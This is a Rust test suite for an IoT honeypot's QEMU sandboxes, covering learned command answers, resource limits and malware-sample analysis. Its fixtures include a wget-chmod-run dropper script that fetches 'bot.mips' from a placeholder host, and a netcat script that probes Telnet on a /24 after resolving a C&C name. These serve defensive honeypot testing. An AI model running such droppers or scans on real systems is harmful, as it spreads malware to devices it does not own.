//! The responder chain end to end with real QEMU: a Telnet attacker on a
//! MIPS little-endian router runs BusyBox applets the emulation does not
//! implement; a sandbox of that architecture answers the first time, the
//! learned table the second (the same bytes), and an answer that changes
//! between runs is never replayed.

mod common;
use common::*;
use std::time::{Duration, Instant};

fn images() -> String {
    std::env::var("IOTPOT_IMAGES").expect(
        "IOTPOT_IMAGES is not set: run the README's test command (scripts/test), which builds the images",
    )
}

/// A config in `dir` (data in `dir/data`) that uses the test's images.
fn box_config(dir: &TempDir) -> std::path::PathBuf {
    let cfg = dir.0.join("box.toml");
    std::fs::write(
        &cfg,
        format!(
            "data_dir = \"{}\"\n[iotbox]\nimages = \"{}\"\n",
            dir.0.join("data").display(),
            images()
        ),
    )
    .unwrap();
    cfg
}

/// `iotpot box analyze`'s report of `sample`, with data in `dir`.
fn analyze(dir: &TempDir, sample: &std::path::Path, seconds: &str) -> serde_json::Value {
    let out = run_ok(
        std::process::Command::new(BIN)
            .args(["box", "analyze", "--seconds", seconds, "--json", "--config"])
            .arg(box_config(dir))
            .arg(sample),
    );
    serde_json::from_str(&out).unwrap()
}

#[test]
fn unknown_applets_are_answered_by_a_sandbox_then_learned() {
    let mut hp = with_sandbox("iotbox", "router-dlink", "mipsel", "");
    let mut bot = Bot::connect(hp.addr);
    bot.login("root", "admin");
    let first = bot.cmd("expr 6 \\* 7");
    let second = bot.cmd("expr 6 \\* 7");
    assert!(first.contains("\r\n42\r\n"), "{first:?}");
    assert_eq!(
        first, second,
        "the learned answer is the sandbox's, byte for byte"
    );
    // stdin is forwarded: a real md5 of what the pipe carried.
    let md5 = bot.cmd("echo hello | md5sum");
    assert!(
        md5.contains("\r\nb1946ac92492d2347c6235b4d2611184  -\r\n"),
        "{md5:?}"
    );
    // An answer that changes between runs is not learned.
    let a = bot.cmd("hexdump -n 8 -e '8/1 \"%02x\"' /dev/urandom; echo");
    let b = bot.cmd("hexdump -n 8 -e '8/1 \"%02x\"' /dev/urandom; echo");
    assert_ne!(a, b);
    // The sandbox's kernel does not show through: the persona's does.
    let release = bot.cmd("sysctl -n kernel.osrelease");
    assert!(release.contains("\r\n2.6.21\r\n"), "{release:?}");
    let version = bot.cmd("sysctl -n kernel.version");
    assert!(!version.contains("Debian"), "{version:?}");
    // An answer that depends on what the session did differs from a clean
    // sandbox's: not learned either.
    bot.cmd("sysctl -w kernel.domainname=iotpot");
    let dom = bot.cmd("sysctl -n kernel.domainname");
    assert!(dom.contains("\r\niotpot\r\n"), "{dom:?}");
    // Through `busybox APPLET` too.
    let base = bot.cmd("busybox basename /a/b/c");
    assert!(base.contains("\r\nc\r\n"), "{base:?}");
    bot.send("exit");
    let learned = hp.cli(&["profiles", "learned"]);
    hp.stop();

    let db = hp.db();
    let rows = column(&db, "SELECT json_extract(data, '$.command') || ' ' || json_extract(data, '$.source') || ' ' || json_extract(data, '$.learned') || ' ' || json_extract(data, '$.volatile') FROM events WHERE eventid = 'iotpot.iotbox.answer' ORDER BY id");
    assert_eq!(
        rows[..9],
        [
            "expr 6 * 7 iotbox 1 0",
            "expr 6 * 7 learned 0 0",
            "md5sum iotbox 1 0",
            "hexdump -n 8 -e 8/1 \"%02x\" /dev/urandom iotbox 0 1",
            "hexdump -n 8 -e 8/1 \"%02x\" /dev/urandom iotbox 0 1",
            "sysctl -n kernel.osrelease iotbox 1 0",
            "sysctl -n kernel.version iotbox 1 0",
            "sysctl -w kernel.domainname=iotpot iotbox 1 0",
            "sysctl -n kernel.domainname iotbox 0 1",
        ],
        "{rows:?}"
    );
    let ms = column(&db, "SELECT json_extract(data, '$.elapsed_ms') FROM events WHERE eventid = 'iotpot.iotbox.answer' AND json_extract(data, '$.source') = 'learned'");
    let ms: f64 = ms[0].parse().unwrap();
    assert!(ms < 5.0, "a learned answer took {ms} ms");
    assert!(
        learned.contains("expr 6 * 7") && learned.contains("hit rate"),
        "{learned}"
    );
    eprintln!("{learned}");
}

/// A honeypot of `profile` with IoTBOX on the test images (`iotbox` adds
/// keys to its `[iotbox]` table), once its sandbox of `arch` is ready.
fn with_sandbox(name: &str, profile: &str, arch: &str, iotbox: &str) -> Honeypot {
    let hp = Honeypot::start(
        name,
        profile,
        &format!("[iotbox]\nimages = \"{}\"\n{iotbox}", images()),
    );
    wait_sandbox(&hp, arch);
    hp
}

/// Waits until the honeypot says its sandbox of `arch` is ready.
fn wait_sandbox(hp: &Honeypot, arch: &str) {
    // The templates are made at start (a cold boot each) unless cached.
    let deadline = Instant::now() + Duration::from_secs(240);
    let ready = |log: &str| {
        log.lines().any(|l| {
            l.contains("IoTBOX sandbox ready")
                && (l.contains(&format!("arch={arch} ")) || l.contains(&format!("arch=\"{arch}\"")))
        })
    };
    while !ready(&hp.stderr.lock().unwrap()) {
        assert!(Instant::now() < deadline, "{}", hp.stderr.lock().unwrap());
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Each new answer costs a clean sandbox to check: a session may only have
/// `max_learn` of them checked; past that, its unknown commands are relayed
/// and not learned.
#[test]
fn a_session_learns_at_most_max_learn_answers() {
    let mut hp = with_sandbox("iotbox-budget", "router-dlink", "mipsel", "max_learn = 1\n");
    let mut bot = Bot::connect(hp.addr);
    bot.login("root", "admin");
    assert!(bot.cmd("expr 1 + 2").contains("\r\n3\r\n"));
    assert!(bot.cmd("expr 2 + 3").contains("\r\n5\r\n"));
    assert!(bot.cmd("expr 2 + 3").contains("\r\n5\r\n"));
    bot.send("exit");
    hp.stop();
    let rows = column(&hp.db(), "SELECT json_extract(data, '$.command') || ' ' || json_extract(data, '$.source') || ' ' || json_extract(data, '$.learned') FROM events WHERE eventid = 'iotpot.iotbox.answer' ORDER BY id");
    assert_eq!(
        rows,
        [
            "expr 1 + 2 iotbox 1",
            "expr 2 + 3 iotbox 0",
            "expr 2 + 3 iotbox 0"
        ]
    );
}

/// `iotpot box analyze`: a sample that resolves a name and connects to
/// addresses in one /24 (and tries the host) runs in a sandbox whose network
/// is captured and goes nowhere; the report lists it all.
#[test]
fn box_analyze_reports_what_a_sample_tried() {
    let dir = TempDir::new("analyze");
    // A listener on the host: the sandbox must not reach it.
    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let port = host.local_addr().unwrap().port();
    let sample = dir.0.join("bot.sh");
    std::fs::write(
        &sample,
        format!(
            "#!/bin/sh\nnslookup cnc.iotpot-test.example\nfor i in 10 11 12; do echo x | nc -w 1 198.51.100.$i 23; done\n\
             echo x | nc -w 1 10.0.2.2 {port}\necho x | nc -w 1 127.0.0.1 {port}\n"
        ),
    )
    .unwrap();
    let r = analyze(&dir, &sample, "6");
    assert_eq!(r["arch"], "mipsel");
    assert!(
        r["dns"]["cnc.iotpot-test.example"].as_u64().unwrap() >= 1,
        "{r}"
    );
    for i in 10..=12 {
        assert_eq!(r["tcp"][format!("198.51.100.{i}:23")], 1, "{r}");
    }
    assert_eq!(r["per_24"]["198.51.100.0/24"], 3, "{r}");
    assert_eq!(r["ports"]["23"], 3, "{r}");
    // The capture, as tcpdump reads it: the DNS question and the SYNs.
    require("tcpdump");
    let pcap = std::path::PathBuf::from(r["pcap"].as_str().unwrap());
    let text = run_ok(
        std::process::Command::new("tcpdump")
            .args(["-nn", "-r"])
            .arg(&pcap),
    );
    assert!(text.contains("A? cnc.iotpot-test.example."), "{text}");
    for i in 10..=12 {
        assert!(
            text.lines()
                .any(|l| l.contains(&format!("> 198.51.100.{i}.23: Flags [S]"))),
            "no SYN to 198.51.100.{i}:23 in {text}"
        );
    }
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(host.accept().is_err(), "the sandbox reached the host");
    let db = rusqlite::Connection::open(dir.0.join("data/iotpot.db")).unwrap();
    let ev = column(&db, "SELECT json_extract(data, '$.per_24') FROM events WHERE eventid = 'iotpot.analysis.report'");
    assert_eq!(ev, [r#"{"10.0.2.0/24":1,"198.51.100.0/24":3}"#]);
}

/// The test bot (tests/data/bot.c), compiled here with Debian's cross
/// compiler `cc` (the program, then its flags) into a static binary at
/// `dir/name`.
fn compile_bot(cc: &[&str], dir: &TempDir, name: &str) -> std::path::PathBuf {
    require(cc[0]);
    let bot = dir.0.join(name);
    run_ok(
        std::process::Command::new(cc[0])
            .args(&cc[1..])
            .args(["-static", "-Os", "-s", "-o"])
            .arg(&bot)
            .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/bot.c")),
    );
    bot
}

/// The sinkhole's contact with `dst` in a report.
fn contact<'a>(r: &'a serde_json::Value, dst: &str) -> &'a serde_json::Value {
    r["contacts"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["dst"] == dst))
        .unwrap_or_else(|| panic!("no contact with {dst}: {r}"))
}

/// A real static MIPS binary: the sandbox is picked from its ELF header;
/// the sinkhole resolves its C&C's name and accepts the connection, and
/// the report holds the hello the bot sent and its attempts on one /24.
#[test]
fn box_analyze_runs_a_compiled_mips_binary() {
    let dir = TempDir::new("analyze-elf");
    let bot = compile_bot(&["mipsel-linux-gnu-gcc"], &dir, "bot");
    let r = analyze(&dir, &bot, "4");
    assert_eq!(r["arch"], "mipsel", "{r}");
    assert_eq!(r["dns"]["cnc.iotpot-test.example"], 1, "{r}");
    assert_eq!(
        r["resolved"]["cnc.iotpot-test.example"], "198.18.0.1",
        "{r}"
    );
    let cnc = contact(&r, "198.18.0.1:6667");
    assert_eq!(cnc["name"], "cnc.iotpot-test.example", "{r}");
    assert_eq!(
        cnc["first_bytes"],
        hex::encode("HELLO iotpot-test\n"),
        "{r}"
    );
    assert_eq!(r["per_24"]["198.51.100.0/24"], 3, "{r}");
    assert_eq!(r["ports"]["23"], 3, "{r}");
}

/// The access manager end to end: an attacker's wget on the honeypot
/// stores a bot (fetched on the host by the downloader); a dropper script
/// run in a sandbox asks for the same file, and the sinkhole serves it
/// from the sample store, so the second stage really runs in the sandbox
/// and its own traffic is in the report.
#[test]
fn box_analyze_serves_downloads_from_the_sample_store() {
    let www = TempDir::new("sinkhole-www");
    std::fs::create_dir_all(www.0.join("bins")).unwrap();
    let bot = compile_bot(&["mipsel-linux-gnu-gcc"], &www, "bins/bot.mips");
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(std::fs::read(&bot).unwrap()))
    };
    let port = free_port();
    let _http = http_server(&www.0, port);
    let hp = Honeypot::start(
        "sinkhole",
        "dvr-xiongmai",
        "[downloader]\nallow = [\"127.0.0.1/32\"]\n",
    );
    let mut attacker = Bot::connect(hp.addr);
    attacker.login("root", "xc3511");
    let url = format!("http://127.0.0.1:{port}/bins/bot.mips");
    let out = attacker.cmd(&format!("cd /tmp; wget {url}"));
    assert!(out.contains("100% |"), "{out}");
    let db = rusqlite::Connection::open(hp.dir.0.join("data/iotpot.db")).unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    while column(
        &db,
        &format!("SELECT sha256 FROM sample_sources WHERE source = '{url}'"),
    ) != [sha.clone()]
    {
        assert!(Instant::now() < deadline, "the sample was not stored");
        std::thread::sleep(Duration::from_millis(100));
    }
    let script = hp.dir.0.join("dropper.sh");
    std::fs::write(
        &script,
        "#!/bin/sh\ncd /tmp\nwget http://203.0.113.9/bins/bot.mips -O m\nchmod 755 m\n./m\n\
         wget http://203.0.113.9/bins/missing.arm -O a\n",
    )
    .unwrap();
    let r = analyze(&hp.dir, &script, "8");
    let dl = contact(&r, "203.0.113.9:80");
    assert_eq!(dl["served"], sha, "{r}");
    // The file name did not match exactly (another host): the path did.
    assert_eq!(dl["http"], "http://203.0.113.9/bins/bot.mips", "{r}");
    let missing = r["contacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["http"] == "http://203.0.113.9/bins/missing.arm")
        .unwrap_or_else(|| panic!("{r}"));
    assert_eq!(missing["served"], "404");
    // The served bot ran: its own C&C hello and scan are in the report.
    assert_eq!(
        contact(&r, "198.18.0.1:6667")["first_bytes"],
        hex::encode("HELLO iotpot-test\n"),
        "{r}"
    );
    assert_eq!(r["per_24"]["198.51.100.0/24"], 3, "{r}");
    let ev = column(
        &db,
        "SELECT json_extract(data, '$.contacts[0].served') FROM events WHERE eventid = 'iotpot.analysis.report'",
    );
    assert_eq!(ev, [sha]);
}

/// Big-endian MIPS, cross-built from Debian's sources by `box build
/// --from-source`: a router of that architecture is answered by a sandbox
/// that really is big-endian (a 16-bit word of "AB" reads 0x4142), wearing
/// the persona's kernel release.
#[test]
fn a_big_endian_mips_router_is_answered_by_a_mips_sandbox() {
    let mut hp = with_sandbox("iotbox-mips", "router-tplink", "mips", "");
    let mut bot = Bot::connect(hp.addr);
    bot.login("root", "5up");
    let word = bot.cmd("printf AB | hexdump -e '1/2 \"%04x\" \"\\n\"'");
    assert!(word.contains("\r\n4142\r\n"), "{word:?}");
    let release = bot.cmd("sysctl -n kernel.osrelease");
    assert!(release.contains("\r\n2.6.31\r\n"), "{release:?}");
    bot.send("exit");
    hp.stop();
    let rows = column(&hp.db(), "SELECT json_extract(data, '$.arch') || ' ' || json_extract(data, '$.source') FROM events WHERE eventid = 'iotpot.iotbox.answer' ORDER BY id");
    assert_eq!(rows, ["mips iotbox", "mips iotbox"]);
}

/// A binary of a from-source architecture: `box analyze` picks the
/// sandbox `arch` from its ELF header, and the bot runs there (its hello
/// reaches the sinkhole, its scan of one /24 is counted).
fn analyze_bot_in(arch: &str, cc: &[&str]) {
    let dir = TempDir::new(&format!("analyze-{arch}"));
    let bot = compile_bot(cc, &dir, "bot");
    let r = analyze(&dir, &bot, "6");
    assert_eq!(r["arch"], arch, "{r}");
    assert_eq!(
        contact(&r, "198.18.0.1:6667")["first_bytes"],
        hex::encode("HELLO iotpot-test\n"),
        "{r}"
    );
    assert_eq!(r["per_24"]["198.51.100.0/24"], 3, "{r}");
}

#[test]
fn box_analyze_runs_a_big_endian_mips_binary() {
    analyze_bot_in("mips", &["mips-linux-gnu-gcc"]);
}

/// 32-bit PowerPC (QEMU ppce500); its image takes ~7 min to cross-build,
/// so only `./scripts/test --all-arches` builds it and runs this.
#[test]
#[ignore = "needs the ppc image: ./scripts/test --all-arches"]
fn box_analyze_runs_a_powerpc_binary() {
    analyze_bot_in("ppc", &["powerpc-linux-gnu-gcc"]);
}

/// A 32-bit SPARC binary (what IoT malware ships for SPARC) runs in the
/// sparc sandbox: a sparc64 kernel with 32-bit compatibility (QEMU sun4u).
#[test]
#[ignore = "needs the sparc image: ./scripts/test --all-arches"]
fn box_analyze_runs_a_32_bit_sparc_binary() {
    analyze_bot_in("sparc", &["sparc64-linux-gnu-gcc", "-m32"]);
}

/// The sparc sandbox passes for a 32-bit system (`linux32`): what an
/// attacker's `uname -m` expects of a SPARC device. Through the operator's
/// console, `box shell`, fed by a pipe.
#[test]
#[ignore = "needs the sparc image: ./scripts/test --all-arches"]
fn the_sparc_sandbox_says_sparc() {
    use std::io::Write;
    let dir = TempDir::new("shell-sparc");
    let mut child = std::process::Command::new(BIN)
        .args(["box", "shell", "sparc", "--config"])
        .arg(box_config(&dir))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(b"uname -m\nexit\n").unwrap();
    drop(stdin);
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        stdout.lines().map(str::trim).collect::<Vec<_>>(),
        ["sparc"],
        "{stdout:?}"
    );
}

/// SH4 is not offered, and `box build` says why rather than "unknown".
#[test]
fn box_build_explains_why_there_is_no_sh4() {
    let out = std::process::Command::new(BIN)
        .args(["box", "build", "--from-source", "--arch", "sh4"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        err.contains("sh4 sandboxes cannot be built") && err.contains("miscompiles"),
        "{err}"
    );
}

/// `[iotbox] never`, set in a config: those applets are never asked of a
/// sandbox (the emulation answers, here with nothing), others still are.
#[test]
fn never_keeps_applets_away_from_the_sandbox() {
    let mut hp = with_sandbox(
        "iotbox-never",
        "router-dlink",
        "mipsel",
        "never = [\"expr\"]\n",
    );
    let mut bot = Bot::connect(hp.addr);
    bot.login_ok("root", "admin");
    assert_eq!(bot.run("expr 6 \\* 7"), "");
    assert_eq!(
        bot.run("echo hello | md5sum"),
        "b1946ac92492d2347c6235b4d2611184  -\n"
    );
    bot.send("exit");
    hp.stop();
    let asked = column(&hp.db(), "SELECT json_extract(data, '$.command') || ' ' || json_extract(data, '$.source') FROM events WHERE eventid = 'iotpot.iotbox.answer' ORDER BY id");
    assert_eq!(asked, ["md5sum iotbox"]);
}

/// The reset policy: a session's sandbox serves `max_commands` commands or
/// `max_minutes`, then a clean one takes over (what the session did in the
/// old one is gone; the events name a new sandbox).
#[test]
fn a_sessions_sandbox_is_reset_after_max_commands_or_max_minutes() {
    let mut hp = with_sandbox(
        "iotbox-reset",
        "router-dlink",
        "mipsel",
        "max_commands = 2\nmax_minutes = 0.1\nmax_learn = 0\n",
    );
    let mut bot = Bot::connect(hp.addr);
    bot.login_ok("root", "admin");
    let dom = "sysctl -n kernel.domainname";
    assert_eq!(
        bot.run("sysctl -w kernel.domainname=one"),
        "kernel.domainname = one\n"
    );
    assert_eq!(bot.run(dom), "one\n");
    // Third command: max_commands reached, a clean sandbox.
    assert_eq!(bot.run(dom), "(none)\n");
    bot.run("sysctl -w kernel.domainname=two");
    // 6 s later: max_minutes (0.1) passed, a clean sandbox again.
    std::thread::sleep(Duration::from_secs(7));
    assert_eq!(bot.run(dom), "(none)\n");
    bot.send("exit");
    hp.stop();
    let sandboxes = column(&hp.db(), "SELECT json_extract(data, '$.sandbox') FROM events WHERE eventid = 'iotpot.iotbox.answer' ORDER BY id");
    assert_eq!(sandboxes.len(), 5, "{sandboxes:?}");
    let (a, b, c) = (&sandboxes[0], &sandboxes[2], &sandboxes[4]);
    assert!(a.starts_with("mipsel/vm"), "{sandboxes:?}");
    assert_eq!(
        [&sandboxes[1], &sandboxes[3]],
        [a, b],
        "each sandbox served until its limit: {sandboxes:?}"
    );
    assert!(a != b && b != c && a != c, "{sandboxes:?}");
}

/// `max_vms` bounds the sandboxes: past it, a session's command is
/// answered by the emulation and the event says why; when a session ends
/// its sandbox is freed and the next one gets it.
#[test]
fn max_vms_bounds_the_sandboxes() {
    let mut hp = with_sandbox(
        "iotbox-maxvms",
        "router-dlink",
        "mipsel",
        "max_vms = 2\nspares = 1\nmax_learn = 0\n",
    );
    let sessions: Vec<Bot> = ["127.0.0.1", "127.0.0.2"]
        .iter()
        .map(|src| {
            let mut b = Bot::connect_from(src, hp.addr).unwrap();
            b.login_ok("root", "admin");
            assert_eq!(b.run("expr 2 + 2"), "4\n");
            b
        })
        .collect();
    // Both sandboxes are taken: a third session gets the emulation.
    let mut third = Bot::connect_from("127.0.0.3", hp.addr).unwrap();
    third.login_ok("root", "admin");
    assert_eq!(third.run("expr 3 + 3"), "");
    // One session ends: its sandbox goes, a clean one comes back.
    drop(sessions);
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if third.run("expr 4 + 4") == "8\n" {
            break;
        }
        assert!(Instant::now() < deadline, "no sandbox came back");
        std::thread::sleep(Duration::from_millis(500));
    }
    third.send("exit");
    hp.stop();
    let rows = column(&hp.db(), "SELECT json_extract(data, '$.command') || ' | ' || json_extract(data, '$.source') || ' | ' || coalesce(json_extract(data, '$.reason'), '') FROM events WHERE eventid = 'iotpot.iotbox.answer' ORDER BY id");
    assert_eq!(
        rows[..3],
        [
            "expr 2 + 2 | iotbox | ",
            "expr 2 + 2 | iotbox | ",
            "expr 3 + 3 | unavailable | max_vms reached: 2 sandboxes already run",
        ],
        "{rows:?}"
    );
    assert_eq!(rows.last().unwrap(), "expr 4 + 4 | iotbox | ");
}

/// `box analyze --arch`: the operator picks the sandbox (a script would
/// run in mipsel otherwise); what it printed is the arm64 machine's.
#[test]
fn box_analyze_runs_where_arch_says() {
    let dir = TempDir::new("analyze-arch");
    let sample = dir.0.join("probe.sh");
    std::fs::write(&sample, "#!/bin/sh\nuname -m\n").unwrap();
    let out = run_ok(
        std::process::Command::new(BIN)
            .args([
                "box",
                "analyze",
                "--seconds",
                "2",
                "--json",
                "--arch",
                "arm64",
                "--config",
            ])
            .arg(box_config(&dir))
            .arg(&sample),
    );
    let r: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["arch"], "arm64");
    assert_eq!(r["output"], "aarch64\n");
}

/// A copy of the test's `arch` image in `dir/images`, with a template
/// made (by `box shell`), then damaged as a full disk or a bad copy would:
/// cut in the middle.
fn damaged_template(dir: &TempDir, arch: &str) -> std::path::PathBuf {
    let built = std::path::PathBuf::from(images());
    let images = dir.0.join("images");
    std::fs::create_dir_all(images.join(arch)).unwrap();
    for f in ["kernel", "initramfs.cpio", "manifest.toml"] {
        std::fs::copy(built.join(arch).join(f), images.join(arch).join(f)).unwrap();
    }
    let cfg = dir.0.join("damaged.toml");
    std::fs::write(
        &cfg,
        format!(
            "data_dir = \"{}\"\n[iotbox]\nimages = \"{}\"\n",
            dir.0.join("data").display(),
            images.display()
        ),
    )
    .unwrap();
    let made = std::process::Command::new(BIN)
        .args(["box", "shell", arch, "--config"])
        .arg(&cfg)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let template = std::fs::read_dir(images.join(arch))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|e| e == "mig"))
        .expect("a template");
    let len = std::fs::metadata(&template).unwrap().len();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&template)
        .unwrap()
        .set_len(len / 2)
        .unwrap();
    cfg
}

/// A QEMU that fails says why, in one line, wherever the failure shows:
/// the operator's `box shell` and `box status`, and the honeypot's log and
/// events (the emulation answers meanwhile).
#[test]
fn a_failing_qemu_says_why() {
    let dir = TempDir::new("qemu-fails");
    let cfg = damaged_template(&dir, "mipsel");
    let shell = std::process::Command::new(BIN)
        .args(["box", "shell", "mipsel", "--config"])
        .arg(&cfg)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&shell.stderr);
    assert!(!shell.status.success());
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.starts_with("iotpot: qemu-system-mipsel exited with status 1: ")
            && err.contains("load of migration failed"),
        "{err}"
    );
    let status = std::process::Command::new(BIN)
        .args(["box", "status", "--config"])
        .arg(&cfg)
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&status.stdout);
    assert!(!status.status.success(), "{out}");
    assert!(
        out.lines().any(|l| l
            .contains("template does not restore: qemu-system-mipsel exited with status 1: ")
            && l.contains("load of migration failed")),
        "{out}"
    );
    // The honeypot on the same images.
    let images = dir.0.join("images");
    let mut hp = Honeypot::start(
        "qemu-fails-run",
        "router-dlink",
        &format!("[iotbox]\nimages = \"{}\"\n", images.display()),
    );
    let mut bot = Bot::connect(hp.addr);
    bot.login_ok("root", "admin");
    assert_eq!(bot.run("expr 6 \\* 7"), "");
    bot.send("exit");
    hp.stop();
    let reason = column(&hp.db(), "SELECT json_extract(data, '$.source') || ' ' || json_extract(data, '$.reason') FROM events WHERE eventid = 'iotpot.iotbox.answer'");
    assert_eq!(reason.len(), 1);
    assert!(
        reason[0].starts_with("unavailable starting a mipsel sandbox failed: qemu-system-mipsel exited with status 1: ")
            && reason[0].contains("load of migration failed"),
        "{reason:?}"
    );
    let log = hp.stderr.lock().unwrap().clone();
    assert!(
        log.lines()
            .any(|l| l.contains("IoTBOX: starting a sandbox failed")
                && l.contains("load of migration failed")),
        "{log}"
    );
}

/// `box status` on the test images: every built image's QEMU is found, new
/// enough, has its firmware and starts its machine (a dry start).
#[test]
fn box_status_checks_what_qemu_needs() {
    let dir = TempDir::new("status");
    let out = run_ok(
        std::process::Command::new(BIN)
            .args(["box", "status", "--config"])
            .arg(box_config(&dir)),
    );
    let built = [
        "mipsel", "mips64el", "armhf", "armel", "arm64", "i686", "ppc64el", "mips",
    ];
    for arch in built {
        let section: Vec<&str> = out
            .lines()
            .skip_while(|l| !l.starts_with(&format!("{arch:<9} ")))
            .take_while(|l| l.starts_with(&format!("{arch:<9} ")) || l.starts_with("          "))
            .collect();
        // "mipsel    qemu-system-mipsel 10.0.2 (Debian ...)": found, new enough.
        let qemu = section[0][10..].split(' ').collect::<Vec<_>>();
        assert!(
            qemu[0].starts_with("qemu-system-") && qemu[1].split('.').count() == 3,
            "{arch}: {section:?}"
        );
        assert!(
            section.contains(&"            image ok"),
            "{arch}: {section:?}"
        );
        assert!(
            section.contains(&"            QEMU accepts its machine (dry start: ok)"),
            "{arch}: {section:?}"
        );
    }
    assert!(out.contains("firmware bios-256k.bin ok"), "{out}");
    assert!(out.contains("firmware vof.bin ok"), "{out}");
}
